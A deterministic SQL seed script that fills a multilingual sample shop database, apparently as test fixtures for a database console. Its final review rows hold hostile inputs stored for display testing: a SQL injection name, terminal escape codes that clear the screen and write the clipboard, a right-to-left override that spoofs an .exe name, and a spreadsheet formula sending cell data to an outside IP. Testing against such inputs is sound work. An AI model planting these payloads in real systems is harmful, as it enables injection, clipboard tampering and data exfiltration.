-- The shop's rows. Everything follows from row numbers: no random(), no now().

insert into countries values
    ('AT', 'Österreich', 'EUR', 20), ('CH', 'Schweiz', 'CHF', 8.1),
    ('DE', 'Deutschland', 'EUR', 19), ('DK', 'Danmark', 'DKK', 25),
    ('ES', 'España', 'EUR', 21), ('FR', 'France', 'EUR', 20),
    ('GR', 'Ελλάδα', 'EUR', 24), ('IS', 'Ísland', 'ISK', 24),
    ('JP', '日本', 'JPY', 10), ('PL', 'Polska', 'PLN', 23),
    ('SE', 'Sverige', 'SEK', 25), ('US', 'United States', 'USD', 0);

insert into customers
    (email, full_name, phone, birthday, preferences, newsletter, loyalty_points,
     last_ip, created_at)
select
    'customer' || i || '@' || (array['example.com', 'example.org', 'mail.example.net'])[1 + i % 3],
    case when i % 23 = 0 then
        (array['山田 太郎', '佐藤 花子', '王 小明', '김 민준', 'أحمد الفارسي', 'דנה לוי'])[1 + i / 23 % 6]
    else
        (array['Zoë', 'José', 'Anna', 'Łukasz', 'Søren', 'Chloé', 'Jürgen', 'Maria',
               'Nikos', 'Björk', 'Oliver', 'Aylin', 'Émile', 'Ingrid', 'Tomás', 'Grace',
               'Dvořák'])[1 + i * 7 % 17]
        || ' ' ||
        (array['Müller', 'García', 'Nowak', 'Dupont', 'Sørensen', 'Papadopoulos',
               'Jónsdóttir', 'O''Brien', 'Smith', 'Svensson', 'Rossi', 'Yılmaz',
               'Žižka'])[1 + i * 11 % 13]
    end,
    case when i % 4 <> 0 then '+' || 30 + i % 60 || ' ' || 1000000 + i * 7919 % 8999999 end,
    case when i % 5 <> 0 then date '1950-01-01' + i * 613 % 20000 end,
    jsonb_build_object(
        'locale', (array['de-DE', 'fr-FR', 'en-US', 'ja-JP', 'pl-PL'])[1 + i % 5],
        'theme', case when i % 2 = 0 then 'dark' else 'light' end)
        || case when i % 6 = 0
                then '{"favourites": [3, 7, 12], "notify": {"email": true, "sms": null}}'::jsonb
                else '{}' end,
    i % 3 = 0,
    i * 37 % 5000,
    case when i % 7 = 0 then null
         when i % 11 = 0 then ('2001:db8::' || to_hex(i))::inet
         else ('198.51.' || i % 100 || '.' || i % 254)::inet end,
    timestamptz '2023-01-02 08:00+00' + i * interval '9 hours 17 minutes 43 seconds'
from generate_series(1, 2400) as i;

insert into customers (email, full_name, preferences, created_at) values
    ('robert@example.com', 'Robert''); DROP TABLE students;--', '{}', '2026-02-03 10:00+00'),
    ('null@example.com', 'NULL', '{"name": null}', '2026-02-03 11:00+00'),
    ('emoji@example.com', '👩🏽‍💻 Ada 🇪🇺', '{"mood": "🎉"}', '2026-02-03 12:00+00');

insert into addresses
    (customer_id, kind, line_1, line_2, postal_code, city, country, location, is_default)
select
    c.id,
    (array['shipping', 'billing'])[n]::address_kind,
    (array['Hauptstraße', 'Rue de l''Église', 'Calle Mayor', 'Ulica Długa', 'Æblevej',
           'Oak Street'])[1 + (c.id * 5 + n) % 6] || ' ' || 1 + (c.id * 13 + n) % 180,
    case when (c.id + n) % 9 = 0 then 'c/o ' || c.full_name end,
    case when (c.id + n) % 31 <> 0 then lpad(((c.id * 911 + n) % 99999)::text, 5, '0') end,
    (array['Köln', 'Lyon', 'Málaga', 'Łódź', 'Århus', 'Springfield', 'Θεσσαλονίκη', '京都',
           'Zürich', 'Malmö', 'Graz', 'Reykjavík'])[1 + p],
    (array['DE', 'FR', 'ES', 'PL', 'DK', 'US', 'GR', 'JP', 'CH', 'SE', 'AT', 'IS'])[1 + p],
    point(round((-20 + c.id * 0.029)::numeric, 4), round((36 + c.id * 0.011)::numeric, 4)),
    n = 1
from customers as c, generate_series(1, 2) as n, lateral (select (c.id * 7 + n) % 12 as p) as place
where n = 1 or c.id % 3 = 0
order by c.id, n;

insert into categories values
    (1, null, 'Books', 'books'), (2, null, 'Music', 'music'), (3, null, 'Home', 'home'),
    (4, null, 'Outdoors', 'outdoors'), (5, null, '文房具', 'stationery'),
    (6, 1, 'Novels', 'novels'), (7, 1, 'Cooking', 'cookbooks'), (8, 1, 'Poésie', 'poetry'),
    (9, 2, 'Vinyl', 'vinyl'), (10, 2, 'Instruments', 'instruments'),
    (11, 3, 'Kitchen', 'kitchen'), (12, 3, 'Küchenmesser', 'knives'), (13, 3, 'Garden', 'garden'),
    (14, 4, 'Tents', 'tents'), (15, 4, 'Stoves', 'stoves'),
    (16, 10, 'Strings', 'strings'), (17, 16, 'Violins', 'violins'), (18, 11, 'Pans', 'pans');

insert into products
    (sku, category_id, name, description, price, cost, tags, attributes, size,
     sizes_on_offer, on_sale, thumbnail, active, created_at)
select
    (array['BOK', 'MUS', 'HOM', 'OUT', 'STA'])[1 + i % 5] || '-' || lpad(i::text, 4, '0'),
    6 + i % 13,
    (array['Little', 'Grande', 'Classic', 'Nordic', 'Élégant', 'Feather-light', 'Old', 'Blaue'])[1 + i % 8]
    || ' ' ||
    (array['Teapot', 'Atlas', 'Violin', 'Tent', 'Notebook', 'Skillet', 'Lamp', 'Chef''s Knife',
           'Record', 'Hammock', 'Fountain Pen'])[1 + i * 3 % 11]
    || ' No. ' || i,
    case when i % 13 <> 0 then (
        select string_agg(
            (array['Made by hand in a small workshop.', 'Ships in two days.',
                   'Résiste à l''eau et au feu.', 'Pflegeleicht und langlebig.',
                   'A favourite of our customers since 1998.', '手作りの逸品です。',
                   'Comes with a linen bag.', 'Not suitable for children under three.'])
                [1 + (i + s * s) % 8], ' ' order by s)
        from generate_series(1, 2 + i % 7 + case when i % 97 = 0 then 900 else 0 end) as s)
    end,
    round(4.99 + i * 37 % 300 + i % 10 * 0.1, 2),
    round((4.99 + i * 37 % 300) * 0.6, 2),
    case when i % 8 = 0 then '{}'
         else (array['new', 'sale', 'gift', 'eco', 'limited edition'])[1 + i % 3 : 2 + i % 4] end,
    jsonb_build_object(
        'colour', (array['red', 'ultramarine', 'olive', 'black'])[1 + i % 4],
        'weight_g', 100 + i * 53 % 4000,
        'ratings', jsonb_build_array(i % 5, i % 3, null),
        'maker', jsonb_build_object('name', 'Atelier ' || i % 17, 'since', 1900 + i % 120)),
    case when i % 6 <> 0 then row (20 + i % 400, 10 + i % 300, 5 + i % 200)::dimensions end,
    case when i % 4 = 0 then int4range(34 + i % 4, 44 + i % 6) end,
    case when i % 9 = 0 then daterange(date '2026-03-01' + i % 60, null)
         when i % 10 = 0 then daterange(date '2026-06-01', date '2026-09-01') end,
    case when i % 25 = 0 then decode(repeat('89504e470d0a1a0a' || lpad(to_hex(i), 4, '0'), 12), 'hex') end,
    i % 19 <> 0,
    timestamptz '2024-02-29 12:00+00' + i * interval '1 day 3 hours 7 minutes'
from generate_series(1, 360) as i;

insert into price_history
select p.id,
       tstzrange(p.created_at + n * interval '120 days',
                 case when n < 2 then p.created_at + (n + 1) * interval '120 days' end),
       round(p.price * (0.8 + 0.1 * n), 2)
from products as p, generate_series(0, 2) as n;

insert into inventory
select id, 5 + id * 17 % 400, id % 5, case when id % 12 <> 0 then chr(65 + id % 6) || id % 40 end,
       case when id % 7 <> 0 then timestamptz '2026-07-01 06:00+00' + id * interval '11 minutes' end
from products;

insert into promotions values
    ('SPRING26', 15, '[2026-03-01,2026-05-01)', '{[2026-03-14,2026-03-16)}', B'1111100', '{6,7,8}', '2 mons 3 days'),
    ('NIGHTOWL', 5, '[2026-01-01,infinity)', '{}', B'0000011', '{}', '-1 day +02:00:00'),
    ('100%COTTON', 100, '[2026-04-01,2026-04-02)', '{}', B'0010000', '{3}', null);

insert into orders
    (customer_id, shipping_address_id, status, promotion, currency, tracking,
     delivery_window, time_to_ship, note, placed_at, updated_at)
select
    c.id, a.id, s.status,
    case when i % 14 = 0 then 'SPRING26' when i % 33 = 0 then 'NIGHTOWL' end,
    k.currency,
    case when s.status in ('shipped', 'delivered', 'returned') then md5('parcel ' || i)::uuid end,
    case when s.status in ('shipped', 'delivered')
         then tstzrange(t.placed + interval '3 days', t.placed + interval '3 days 4 hours') end,
    case when s.status in ('shipped', 'delivered') then i % 90 * interval '1 hour' + i % 60 * interval '1 second' end,
    case when i % 41 = 0 then E'Please ring twice.\nThe bell is broken; knock\tloudly.'
         when i % 57 = 0 then 'Geschenkverpackung 🎁 bitte'
         when i % 71 = 0 then '' end,
    case when s.status <> 'cart' then t.placed end,
    t.placed + i % 50 * interval '1 hour'
from generate_series(1, 12000) as i,
    lateral (select timestamptz '2025-01-01 00:03+00' + i * interval '1 hour 7 minutes' as placed) as t,
    lateral (select (array['delivered', 'delivered', 'delivered', 'paid', 'shipped', 'delivered',
                           'cancelled', 'placed', 'delivered', 'returned', 'cart',
                           'delivered'])[1 + i * 5 % 12]::order_status as status) as s,
    customers as c, addresses as a, countries as k
where c.id = 1 + i * 7 % 1999 and a.customer_id = c.id and a.is_default and k.code = a.country
order by i;

insert into order_items (order_id, line_no, product_id, quantity, unit_price, discount)
select o.id, n, p.id, 1 + (o.id + n) % 3, p.price,
       case when o.promotion = 'SPRING26' then 0.150 when (o.id + n) % 17 = 0 then 0.333 else 0 end
from orders as o, generate_series(1, 4) as n, products as p
where n <= 1 + o.id % 4 and p.id = 1 + (o.id * 13 + n * 101) % 360
order by o.id, n;

update orders as o set total = lines.total
from (select order_id, sum(line_total) as total from order_items group by order_id) as lines
where lines.order_id = o.id;

insert into payments (order_id, method, amount, reference, details, paid_at)
select id, (array['card', 'card', 'paypal', 'invoice', 'sepa', 'gift card'])[1 + id % 6]::payment_method,
       total, case when id % 6 <> 3 then upper(substr(md5('payment ' || id), 1, 12)) end,
       case when id % 6 < 2 then jsonb_build_object('brand', 'Visa', 'last4', lpad((id * 97 % 9999)::text, 4, '0'),
                                                   'three_d_secure', id % 3 = 0) end,
       placed_at + id % 70 * interval '1 minute'
from orders where status in ('paid', 'shipped', 'delivered', 'returned')
order by id;

insert into reviews (product_id, customer_id, rating, title, body, helpful, written_at)
select
    1 + i * 17 % 360, 1 + i * 29 % 2399, 1 + (i * 7 + i / 5) % 5,
    (array['Great', 'Très bien', 'Enttäuscht', 'As described', null, '最高！', 'Meh 😐'])[1 + i % 7],
    case when i % 10 <> 0 then
        (array['Works as it should.', 'Die Lieferung kam zwei Tage zu spät.', 'Je recommande !',
               'I bought one for my mother and one for myself.', 'Nie polecam.', 'とても気に入りました。'])[1 + i % 6]
        || ' ' || (array['Would buy again.', '', 'The colour differs from the picture.', '⭐⭐⭐⭐'])[1 + i % 4]
    end,
    i * i % 40,
    timestamptz '2025-03-01 09:00+00' + i * interval '3 hours 19 minutes'
from generate_series(1, 3000) as i
on conflict do nothing;

-- What people and robots really paste into a review box. A console must show these
-- rows without being changed by them.
insert into reviews (product_id, rating, title, body, written_at) values
    (1, 1, '[/x]', 'Closing a [b]tag[/b] that was never opened: [/x] [bold red]sale![/] [@click=app.quit]here[/]', '2026-05-01 10:00+00'),
    (2, 2, E'\x1b[31mred title\x1b[0m', E'\x1b[2J\x1b[H\x1b]0;owned\x07 clears the screen, renames the window \x1b]52;c;ZXZpbA==\x07', '2026-05-01 10:01+00'),
    (3, 3, E'\u202Etxet desrever', E'zero\u200Bwidth, e\u0301 combined, \u202Egnp.exe\u202C, tab\there, bell\x07, back\x08space', '2026-05-01 10:02+00'),
    (4, 4, 'formula', '=HYPERLINK("http://203.0.113.9/?"&A1,"click")', '2026-05-01 10:03+00'),
    (5, 5, 'NULL', 'NULL', '2026-05-01 10:04+00'),
    (6, 1, '', '', '2026-05-01 10:05+00'),
    (7, 2, 'Quotes', E'He said "it''s; -- fine", \\N and left.\r\nSecond line; $$ dollar $$ /* comment', '2026-05-01 10:06+00'),
    (8, 3, 'One word', repeat('Donaudampfschifffahrtsgesellschaft', 300), '2026-05-01 10:07+00');
